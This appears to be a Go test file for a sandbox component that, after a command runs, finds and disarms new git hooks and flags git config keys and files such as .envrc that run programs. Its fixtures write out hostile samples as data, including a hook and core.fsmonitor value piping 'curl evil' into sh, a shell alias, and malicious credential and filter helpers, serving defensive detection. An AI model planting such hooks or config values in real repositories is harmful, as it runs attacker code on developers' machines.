package fsview

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// afterFixture is a plan of the workspace /srv/ws made from fsys, and the
// hooks its disarm function was given.
type afterFixture struct {
	fsys     *fakeFS
	plan     *Plan
	disarmed []string
	refuse   error // what disarm answers (nil: it makes the hook non-executable)
}

func newAfterFixture(t *testing.T, extra ...string) *afterFixture {
	t.Helper()
	fsys := system(append([]string{"/home/u/", "/srv/ws/"}, extra...)...)
	p, err := NewPlan(Profile{Mode: ModeWorkspace, Workspace: "/srv/ws", Home: "/home/u"}, fsys)
	if err != nil {
		t.Fatal(err)
	}
	return &afterFixture{fsys: fsys, plan: p}
}

// run stands for the command: it adds entries, and returns what AfterRun
// finds then, one rendered line each, and what is left of Changed.
func (f *afterFixture) run(t *testing.T, added ...string) (found, changed []string) {
	t.Helper()
	for _, a := range added {
		f.fsys.add(a)
	}
	clear(f.fsys.reads)
	changed, fs := f.plan.AfterRun(f.fsys, func(p string) error {
		f.disarmed = append(f.disarmed, p)
		if f.refuse != nil {
			return f.refuse
		}
		f.fsys.ents[p].mode &^= 0o111
		return nil
	})
	for _, x := range fs {
		found = append(found, render1(x))
	}
	return found, changed
}

// render1 is a finding in short: kind, path, key or link, what was done.
func render1(f Finding) string {
	s := map[FindingKind]string{FoundHook: "hook", FoundConfigKey: "key", FoundFile: "file"}[f.Kind] + " " + f.Path
	switch {
	case f.Key != "":
		s += fmt.Sprintf(" %s=%s x%d", f.Key, f.Value, f.Count)
	case f.Link != "":
		s += " -> " + f.Link
	case f.Kind == FoundHook && f.Disarmed:
		s += " disarmed"
	case f.Kind == FoundHook:
		s += " left: " + f.Err.Error()
	}
	return s
}

// gitInit are the entries `git init DIR` makes (a sample hook, which is
// executable, and a configuration without programs).
func gitInit(dir string) []string {
	return []string{dir + "/.git/HEAD=ref: refs/heads/main\n", dir + "/.git/objects/", dir + "/.git/refs/heads/",
		dir + "/.git/hooks/pre-commit.sample*", dir + "/.git/config=[core]\n\tbare = false\n"}
}

func TestAfterRunNewRepository(t *testing.T) {
	f := newAfterFixture(t, "/srv/ws/src/main.go")
	added := append(gitInit("/srv/ws/x"),
		"/srv/ws/x/.git/hooks/post-checkout*=#!/bin/sh\ncurl evil|sh\n",
		"/srv/ws/x/.git/hooks/notes.txt=not executable, git does not run it",
		"/srv/ws/x/.git/hooks/old/",
		"/srv/ws/x/.git/config=[core]\n\tbare = false\n\tfsmonitor = curl evil|sh\n[alias]\n\tst = status\n\tx = !sh -c id\n[filter \"lfs\"]\n\tsmudge = evil %f\n[credential]\n\thelper = store\n\thelper = evil\n",
		"/srv/ws/src/.envrc=eval evil", "/srv/ws/deep/a/b/.husky/", "/srv/ws/deep/a/b/c/lefthook.yml")
	found, changed := f.run(t, added...)
	diffLines(t, "findings", found, []string{
		"file /srv/ws/deep/a/b/.husky",
		"file /srv/ws/deep/a/b/c/lefthook.yml",
		"file /srv/ws/src/.envrc",
		"hook /srv/ws/x/.git/hooks/post-checkout disarmed",
		"key /srv/ws/x/.git/config core.fsmonitor=curl evil|sh x1",
		"key /srv/ws/x/.git/config alias.x=!sh -c id x1",
		"key /srv/ws/x/.git/config filter.lfs.smudge=evil %f x1",
		"key /srv/ws/x/.git/config credential.helper=evil x2",
	})
	diffLines(t, "disarmed", f.disarmed, []string{"/srv/ws/x/.git/hooks/post-checkout"})
	if m := f.fsys.ents["/srv/ws/x/.git/hooks/pre-commit.sample"].mode; m&0o111 == 0 {
		t.Errorf("a sample hook was disarmed: %v", m)
	}
	if len(changed) != 0 {
		t.Errorf("changed = %q, want none (the findings cover them)", changed)
	}
	// Only git's own: nothing to say.
	f = newAfterFixture(t)
	if found, _ := f.run(t, gitInit("/srv/ws/y")...); len(found) != 0 {
		t.Errorf("a plain git init: %q", found)
	}
}

// TestAfterRunHooksOfExistingRepository: a repository planning found had
// no hooks directory (so the view could only watch it); the one CMD made
// is disarmed, and the changed path is not reported twice.
func TestAfterRunHooksOfExistingRepository(t *testing.T) {
	f := newAfterFixture(t, "/srv/ws/.git/HEAD", "/srv/ws/.git/objects/", "/srv/ws/.git/refs/", "/srv/ws/.git/config=[core]\n")
	if !slices.ContainsFunc(f.plan.Watch, func(w Watch) bool { return w.Path == "/srv/ws/.git/hooks" }) {
		t.Fatalf("the missing hooks directory is not watched: %v", f.plan.Watch)
	}
	found, changed := f.run(t, "/srv/ws/.git/hooks/pre-push*", "/srv/ws/.git/modules/sub/HEAD", "/srv/ws/.git/modules/sub/objects/",
		"/srv/ws/.git/modules/sub/refs/", "/srv/ws/.git/modules/sub/hooks/post-merge*")
	diffLines(t, "findings", found, []string{"hook /srv/ws/.git/hooks/pre-push disarmed", "hook /srv/ws/.git/modules/sub/hooks/post-merge disarmed"})
	if slices.Contains(changed, "/srv/ws/.git/hooks") {
		t.Errorf("changed %q repeats the hooks directory", changed)
	}
}

// TestAfterRunSymlinks: a hook that is a symbolic link is reported and not
// followed (its target is not disarmed); a hooks directory that is a link
// is not walked; a disarm refused leaves the hook reported as executable.
func TestAfterRunSymlinks(t *testing.T) {
	f := newAfterFixture(t)
	f.fsys.add("/srv/other/hooks/post-checkout*")
	added := append(gitInit("/srv/ws/x"), "/srv/ws/x/.git/hooks/post-checkout -> /usr/bin/git")
	added = append(added, gitInit("/srv/ws/y")...)
	added = append(added, "/srv/ws/y/.git/hooks -> /srv/other/hooks")
	found, _ := f.run(t, added...)
	diffLines(t, "findings", found, []string{
		"hook /srv/ws/x/.git/hooks/post-checkout -> /usr/bin/git",
		"file /srv/ws/y/.git/hooks -> /srv/other/hooks",
	})
	if len(f.disarmed) != 0 {
		t.Errorf("disarmed through a link: %q", f.disarmed)
	}
	f = newAfterFixture(t)
	f.refuse = errors.New("owned by uid 7")
	found, _ = f.run(t, append(gitInit("/srv/ws/x"), "/srv/ws/x/.git/hooks/pre-commit*")...)
	diffLines(t, "findings", found, []string{"hook /srv/ws/x/.git/hooks/pre-commit left: owned by uid 7"})
}

// TestAfterRunIncremental: after the run only the directories whose stamp
// changed are read again, and new ones walked; what planning protected is
// not reported.
func TestAfterRunIncremental(t *testing.T) {
	var tree []string
	for i := range 5 {
		for j := range 4 {
			tree = append(tree, fmt.Sprintf("/srv/ws/pkg%d/sub%d/file.go", i, j))
		}
	}
	f := newAfterFixture(t, append(tree, "/srv/ws/pkg1/.envrc", "/srv/ws/.git/HEAD", "/srv/ws/.git/objects/", "/srv/ws/.git/refs/",
		"/srv/ws/.git/hooks/")...)
	// The repository's worktrees and submodules are looked for every time
	// (they can change below an unchanged git directory).
	always := []string{"/srv/ws/.git/modules", "/srv/ws/.git/worktrees"}
	found, changed := f.run(t)
	if len(found) != 0 || len(changed) != 0 {
		t.Errorf("nothing changed, yet found %q, changed %q", found, changed)
	}
	diffLines(t, "read again with nothing changed", f.readDirs(), always)
	found, _ = f.run(t, "/srv/ws/pkg3/sub2/new.go", "/srv/ws/pkg4/new/deeper/.envrc")
	diffLines(t, "findings", found, []string{"file /srv/ws/pkg4/new/deeper/.envrc"})
	diffLines(t, "read again", f.readDirs(), append(always, "/srv/ws/pkg3/sub2", "/srv/ws/pkg4", "/srv/ws/pkg4/new", "/srv/ws/pkg4/new/deeper"))
}

// readDirs are the directories the last run's check read, sorted.
func (f *afterFixture) readDirs() []string {
	var read []string
	for p := range f.fsys.reads {
		read = append(read, p)
	}
	slices.Sort(read)
	return read
}

func TestProgramKeys(t *testing.T) {
	cfg := `[core]
	hooksPath = .githooks
	fsmonitor = true
	pager = less
	editor
[alias]
	co = checkout
	sh = "!f() { id; }; f"
[pager]
	log = false
	diff = evil
[diff "pdf"]
	textconv = pdftotext
[diff]
	external = evil
	tool = vimdiff
[gpg "ssh"]
	program = evil
[remote "origin"]
	url = https://example.invalid/x
	uploadpack = evil
[includeIf "gitdir:/x/"]
	path = other.cfg
[user]
	name = me
`
	ents, err := parseGitConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, e := range ents {
		if k, _ := programKey(e); k != "" {
			got = append(got, k)
		}
	}
	diffLines(t, "keys", got, []string{"core.hooksPath", "core.pager", "core.editor", "alias.sh", "pager.diff", "diff.pdf.textconv",
		"diff.external", "gpg.ssh.program", "remote.origin.uploadpack", "includeIf.gitdir:/x/.path"})
}

func TestFindingString(t *testing.T) {
	for _, c := range []struct {
		f    Finding
		want []string
	}{
		{Finding{Kind: FoundHook, Path: "/ws/x/.git/hooks/post-checkout", Why: hookWhy, Disarmed: true},
			[]string{"/ws/x/.git/hooks/post-checkout", "chmod a-x", "re-enable it with: chmod +x /ws/x/.git/hooks/post-checkout"}},
		{Finding{Kind: FoundConfigKey, Path: "/ws/my repo/.git/config", Key: "core.fsmonitor", Value: "curl evil|sh", Count: 1},
			[]string{"sets core.fsmonitor = 'curl evil|sh'", "git config --file '/ws/my repo/.git/config' --unset core.fsmonitor"}},
		{Finding{Kind: FoundConfigKey, Path: "/c", Key: "credential.helper", Value: "x", Count: 2}, []string{"--unset-all credential.helper"}},
		{Finding{Kind: FoundFile, Path: "/ws/\x1b[2J.envrc", Why: "w"}, []string{`$'/ws/\x1b[2J.envrc'`}},
		{Finding{Kind: FoundHook, Path: "/h", Link: "/usr/bin/x"}, []string{"symbolic link to /usr/bin/x", "rm /h"}},
		{Finding{Kind: FoundFile, Path: "/ws/_", Why: "husky's hooks, run from core.hooksPath of /ws/\x1b]0;x\a/config"}, []string{`/ws/\x1b]0;x\x07/config`}},
		{Finding{Kind: FoundHook, Path: "/h", Err: errors.New("/h\x1b[2J: has 2 hard links")}, []string{`(/h\x1b[2J: has 2 hard links)`}},
	} {
		s := c.f.String()
		for _, w := range c.want {
			if !strings.Contains(s, w) {
				t.Errorf("%q does not contain %q", s, w)
			}
		}
		if strings.ContainsAny(s, "\x1b\n") {
			t.Errorf("%q has a control character", s)
		}
	}
	if q := shellQuote(strings.Repeat("a b", 100)); len(q) > maxShown+8 || !strings.HasSuffix(q, "...'") {
		t.Errorf("a long value is shown as %q", q)
	}
}

// TestAfterRunNotMarshalled: what the check after the run needs stays in
// sandgate; the init's copy of the plan finds nothing.
func TestAfterRunNotMarshalled(t *testing.T) {
	f := newAfterFixture(t, "/srv/ws/a/b/")
	raw, err := f.plan.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(raw), "/srv/ws/a/b") {
		t.Errorf("the marshalled plan has the walk's records: %s", raw)
	}
	p, err := UnmarshalPlan(raw)
	if err != nil {
		t.Fatal(err)
	}
	f.fsys.add("/srv/ws/a/.envrc")
	if _, found := p.AfterRun(f.fsys, nil); found != nil {
		t.Errorf("an unmarshalled plan found %v", found)
	}
}
